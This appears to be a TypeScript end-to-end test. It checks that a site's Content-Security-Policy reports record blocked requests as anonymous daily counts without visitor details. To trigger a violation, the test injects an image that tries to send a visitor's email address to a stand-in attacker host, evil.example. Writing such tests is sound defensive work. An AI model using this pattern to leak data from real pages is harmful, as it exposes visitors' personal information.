import { expect, test } from "vitest";
import { startJourney } from "#tests/journeys/journey.ts";

const { site, newVisitor } = await startJourney({ POLICY_REPORTS: "on" });

/** The server writes its counts every ten seconds. */
const patience = { timeout: 30_000, interval: 1_000 };

test("a browser reports what a policy stopped, and the owner reads it without a word about the visitor", async () => {
  const page = await (await newVisitor()).newPage();
  // Chromium sends nothing to `report-to` from a window that forgets everything: it must not know it.
  await page.route("**/contact?*", async (route) => {
    const response = await route.fetch();
    const {
      "reporting-endpoints": _,
      "content-security-policy": policy = "",
      ...headers
    } = response.headers();
    expect(policy).toContain("; report-to ");
    await route.fulfill({
      response,
      headers: { ...headers, "content-security-policy": policy.replace(/; report-to \w+/, "") },
    });
  });
  await page.goto(`${site.url}/en/contact?email=zoe@example.org`);
  await page.evaluate(async () => {
    const image = new Image();
    const settled = new Promise((resolve) => {
      image.onerror = resolve;
    });
    image.src = "https://evil.example/pixel?email=zoe@example.org";
    await settled;
  });
  const reported = async () => (await site.leads("stats"))["policyReports"];
  await expect.poll(reported, patience).toEqual([
    {
      day: new Date().toISOString().slice(0, 10),
      directive: "img-src",
      blocked: "evil.example",
      page: "/en/contact",
      count: 1,
    },
  ]);
});
